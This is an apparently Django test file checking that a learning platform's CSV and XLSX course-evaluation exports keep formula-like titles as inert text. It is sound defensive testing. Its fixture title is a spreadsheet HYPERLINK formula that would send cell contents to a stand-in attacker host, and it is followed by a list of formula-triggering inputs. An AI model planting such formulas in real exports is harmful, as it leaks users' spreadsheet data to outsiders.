"""The admin's spreadsheet downloads keep text that a spreadsheet would run as a formula as text."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from accounts.tests.factories import UserFactory
from courses.models import CourseEvaluation
from courses.services import REVIEWERS, authoring_roles_setup
from courses.tests.factories import CoursePageFactory, EnrollmentFactory
from lms.exports import spreadsheet_text

FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open the course")'


@pytest.fixture
def evaluated(client, catalogue):
    """A course with a formula for a title, evaluated once, and a reviewer signed in."""
    course = CoursePageFactory(parent=catalogue, title=FORMULA_TITLE)
    CourseEvaluation.objects.create(
        enrollment=EnrollmentFactory(course=course),
        objectives_met=5,
        content_accurate=4,
        instructor_clear=2,
        useful_in_practice=5,
    )
    authoring_roles_setup(catalogue=catalogue)
    client.force_login(UserFactory(groups=[REVIEWERS]))
    return course


def test_the_evaluation_report_csv_keeps_a_formula_title_as_text(client, evaluated):
    response = client.get(reverse("course_evaluations"), {"export": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["Course", "Evaluations", "Favorable answers"]
    assert rows[1][:3] == [f"'{FORMULA_TITLE}", "1", "75%"]


def test_the_evaluation_report_xlsx_keeps_the_title_exactly_and_as_text(client, evaluated):
    response = client.get(reverse("course_evaluations"), {"export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    title = sheet.cell(row=2, column=1)
    assert (title.value, title.data_type) == (FORMULA_TITLE, "s")


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_text_that_starts_a_formula_gets_a_leading_apostrophe(text):
    assert spreadsheet_text(text) == f"'{text}"


@pytest.mark.parametrize("value", ["Myofascial release", "4.5 of 5", "", Decimal("-0.25"), -3, None])
def test_other_text_and_numbers_negative_ones_included_are_left_alone(value):
    assert spreadsheet_text(value) == value
